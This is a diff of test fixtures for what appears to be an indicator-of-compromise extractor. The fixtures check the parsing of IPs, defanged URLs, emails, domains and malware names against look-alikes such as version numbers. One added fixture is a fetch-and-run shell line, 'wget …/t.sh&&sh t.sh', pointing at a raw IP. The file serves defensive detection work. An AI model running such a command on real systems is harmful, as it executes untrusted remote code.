@@ -30,6 +30,8 @@ NEIGHBOUR_SNIPPETS: Final = (
     S("column of versions", "viewer\t1.4.2\nreader\t1.5.0.11\n"),
     S("column of versions", "| viewer | 2.0.1 |\n| reader | 2.1.0.7 |\n"),
     S("column of versions", "panel    5.2.30.4\ndrop     5.2.31.9\n", "ip 5.2.30.4", "ip 5.2.31.9"),
+    S("numbered text", "See sections 3.1.2.4 and 5.10.1.2, Table 2.1.1.3 and RFC 9999 4.2.1.9."),
+    S("called a version", "FileVersion 10.0.19041.746, ProductVersion 1.3.101.14, grebe.dll 1.0.2.11"),
     # --- addresses in fields of other protocols
     S("mapped address", "the socket saw ::ffff:185.220.101.47", "ip ::ffff:185.220.101.47", ADDRESS),
     S("field", 'TXT "v=spf1 ip4:185.220.101.47 ip6:2a0e:1d47:9::25 ~all"', ADDRESS, "ip 2a0e:1d47:9::25"),
@@ -46,6 +48,24 @@ NEIGHBOUR_SNIPPETS: Final = (
     ),
     S("script", f"{DISARMING}\nIndicators\n{SHA256} kube.orlop.sh Trojan.SH\n", GALE, f"hash_sha256 {SHA256}"),
     S("column of a query", "SELECT o.id, o.info FROM orders o"),
+    S("field of a log", 'host.name != "srv" | stats by user.id, dns.question.name, navigator.plugins.map'),
+    S("under a country", "ns1.Orlop-Yard.CO.UK", "domain ns1.orlop-yard.co.uk"),
+    S("before a path", "try orlop.run/start?x=1", "url http://orlop.run/start?x=1", "domain orlop.run"),
+    S(
+        "next command",
+        "wget http://185.220.101.47/t.sh&&sh t.sh",
+        "url http://185.220.101.47/t.sh",
+        ADDRESS,
+    ),
+    S(
+        "parameters",
+        "http://185.220.101.47/t.php?a=1&&b=2",
+        "url http://185.220.101.47/t.php?a=1&&b=2",
+        ADDRESS,
+    ),
+    S("line below", "hxxp://gale-post[.]com/c/2913_", "url http://gale-post.com/c/2913_", GALE),
+    S("line below", "_hxxp://gale-post[.]com/c/2913_", "url http://gale-post.com/c/2913", GALE),
+    S("vocabulary", '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">'),
     # --- services where anyone may put anything
     S(
         "shared service",
@@ -83,6 +103,8 @@ NEIGHBOUR_SNIPPETS: Final = (
         "email support@orlop-unlock.com",
     ),
     S("mailbox", f"{ADDRESSING_ARTICLE}A miner ran there too. Questions: soc@orlop-ir.com\n", ADDRESS),
+    S("mailbox", "Report incidents to report@cisa.gov or soc@ncsc.gov.uk."),
+    S("mailbox", "billing [@] orlop-mail [.] su", "email billing@orlop-mail.su", "domain orlop-mail.su"),
     S("mailbox", "grebe @ orlop-mail.]ru", "email grebe@orlop-mail.ru", "domain orlop-mail.ru"),
     S(
         "registrar",
@@ -96,6 +118,7 @@ NEIGHBOUR_SNIPPETS: Final = (
     S("link", f"{ARTICLE}It drops [Emotet](https://www.bleepingcomputer.com/emotet) there.", "malware Emotet"),
     S("link", f"{ARTICLE}[Cobalt Strike](https://www.cobaltstrike.com/) came next.", "malware Cobalt Strike"),
     S("in brackets", "Emotet (also known as Tsunami) came first.", "malware Emotet", "malware Tsunami"),
+    S("apposition", "panels of Emotet and of Alien, both Android banking trojans.", "malware Emotet", "malware Alien"),
     S("in brackets", "Emotet (Play Store) came first.", "malware Emotet"),
     S("apposition", "Pony, a stealer and loader, had its source code leaked.", "malware Pony"),
     S("apposition", "Cuba, a malware hotspot, was hit."),
